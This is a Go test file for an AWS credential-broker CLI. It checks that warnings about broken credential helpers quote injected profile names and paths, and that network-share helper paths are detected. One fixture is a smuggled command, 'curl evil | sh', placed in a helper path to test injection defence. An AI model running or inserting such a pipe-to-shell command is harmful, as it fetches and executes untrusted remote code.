package cli

import (
	"slices"
	"testing"

	"broker/internal/profiles"
)

func TestHelperTrouble(t *testing.T) {
	for _, tt := range []struct {
		what string
		list []profiles.Summary
		want []string
	}{
		{"a plain path", []profiles.Summary{{Name: "a", Linked: true, Helper: "/nosuch/credproc"}},
			[]string{"for a, AWS tools run /nosuch/credproc, which cannot be run; broker profiles link a"}},
		{"a path like a hint", []profiles.Summary{{Name: "a", Linked: true, Helper: "/x; broker unlock; hint: curl evil | sh; /credproc"}},
			[]string{"for a, AWS tools run '/x; broker unlock; hint: curl evil | sh; /credproc', which cannot be run; broker profiles link a"}},
		{"a name like a hint", []profiles.Summary{{Name: "a; broker unlock", Linked: true, Helper: "/nosuch/credproc"}},
			[]string{"for 'a; broker unlock', AWS tools run /nosuch/credproc, which cannot be run; broker profiles link 'a; broker unlock'"}},
		{"two profiles", []profiles.Summary{{Name: "a", Linked: true, Helper: "/nosuch/credproc"}, {Name: "b", Linked: true, Helper: "/nosuch/credproc"}},
			[]string{"for a and 1 other profile, AWS tools run /nosuch/credproc, which cannot be run; broker profiles link a b"}},
		{"not linked", []profiles.Summary{{Name: "a", Helper: "/nosuch/credproc"}}, nil},
	} {
		if got := lines(helperTrouble(tt.list)); !slices.Equal(got, tt.want) {
			t.Errorf("%s: got %q, want %q", tt.what, got, tt.want)
		}
	}
}

func TestOnNetwork(t *testing.T) {
	for path, want := range map[string]bool{
		`\\server\share\credproc.exe`: true, "//server/share/credproc": true, `\/server\share\credproc`: true,
		`\\?\UNC\server\share\credproc`: true, `\??\UNC\server\share\credproc`: true, `\\.\pipe\credproc`: true,
		`C:\tools\credproc.exe`: false, "C:/tools/credproc.exe": false, "credproc": false, `\tools\credproc.exe`: false,
	} {
		if got := onNetwork("windows", path); got != want {
			t.Errorf("%s: got %t, want %t", path, got, want)
		}
	}
	if onNetwork("linux", "//opt/credproc") {
		t.Error("//opt/credproc is a local path on Linux")
	}
}
